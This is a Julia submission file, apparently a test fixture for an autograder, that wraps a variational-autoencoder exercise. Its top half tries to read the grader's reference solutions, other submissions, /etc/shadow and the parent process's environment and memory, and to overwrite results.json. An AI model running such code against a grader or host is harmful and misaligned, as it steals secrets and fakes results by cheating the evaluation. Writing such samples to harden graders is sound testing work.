"""In Julia, reads and includes the reference, the grader, secrets and other submissions."""
# expects: full

const looted = Ref(false)

function loot(what)
    looted[] = true
    println("LOOT ", what)
end

const PLACES = [
    "/autograder/source", "/autograder/submission", "/autograder/results", "/autograder/submission_metadata.json",
    "/tmp/vae-canary-file", "/root", "/etc/shadow", "/proc/$(ccall(:getppid, Cint, ()))/environ",
    "/proc/$(ccall(:getppid, Cint, ()))/mem", "/proc/$(ccall(:getppid, Cint, ()))/cwd",
]
for place in PLACES
    try
        isdir(place) ? loot(readdir(place)) : loot(read(place, String))
    catch
    end
end
for place in ("/autograder/source/reference/julia/vae.jl", "/autograder/source/reference/numpy/vae.py")
    try
        open(readline, place)
        loot(place)
    catch
    end
end
try
    symlink("/autograder/source/reference/numpy/vae.py", "link.py")
    loot(read("link.py", String))
catch
end
try
    open(io -> write(io, "LOOT"), "/autograder/results/results.json", "w")
    loot("results")
catch
end

reparameterize(mu, log_var) = (looted[] && error("LOOT"); mu .+ exp.(log_var ./ 2) .* randn(eltype(mu), size(mu)))

kl_divergence(mu, log_var) = vec(sum(mu .^ 2 .+ exp.(log_var) .- 1 .- log_var; dims=2)) ./ 2

softplus(a) = max(a, zero(a)) + log1p(exp(-abs(a)))

function elbo(x, x_logits, mu, log_var, beta=1.0)
    log_px = vec(sum(x .* x_logits .- softplus.(x_logits); dims=2))
    return log_px .- beta .* kl_divergence(mu, log_var)
end
